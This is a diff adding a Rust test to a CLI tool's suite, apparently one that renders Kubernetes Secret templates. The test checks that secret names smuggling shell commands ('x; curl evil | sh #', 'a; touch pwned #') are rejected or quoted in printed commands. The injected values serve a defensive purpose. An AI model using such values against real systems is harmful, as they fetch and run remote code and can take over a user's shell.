@@ -463,3 +463,19 @@ fn quiet_says_nothing_but_results() {
     assert_said(&said, 1, &["stale     out/apps/home/base/web.yaml"]);
     assert_eq!(said.err, "");
 }
+
+/// What is printed is meant to be pasted: no name that Kubernetes refuses gets into a command, and none is two words.
+#[test]
+fn no_name_of_a_secret_is_a_command() {
+    let desk = Desk::with(
+        "[stacks.s]\n[services.a]\nstack = \"s\"\nimage = \"a:1.0\"\n\
+         [secrets.bad]\nstack = \"s\"\nprovider = \"sops\"\nkeys = [\"k\"]\nname = \"x; curl evil | sh #\"\n\
+         [secrets.\"a; touch pwned #\"]\nstack = \"s\"\nprovider = \"sealed-secrets\"\nkeys = [\"k\"]\nname = \"fine\"\n",
+    );
+    assert_said(&desk.run("secret template bad"), 2, &["`x; curl evil | sh #` cannot name a Secret"]);
+    desk.edit("inventory.toml", "x; curl evil | sh #", "x");
+    assert_eq!(desk.run("render").code, Some(0));
+    let said = desk.run("check");
+    let text = [said.out, said.err].concat();
+    assert!(text.contains("bayplan secret template 'a; touch pwned #'"), "{text}");
+}
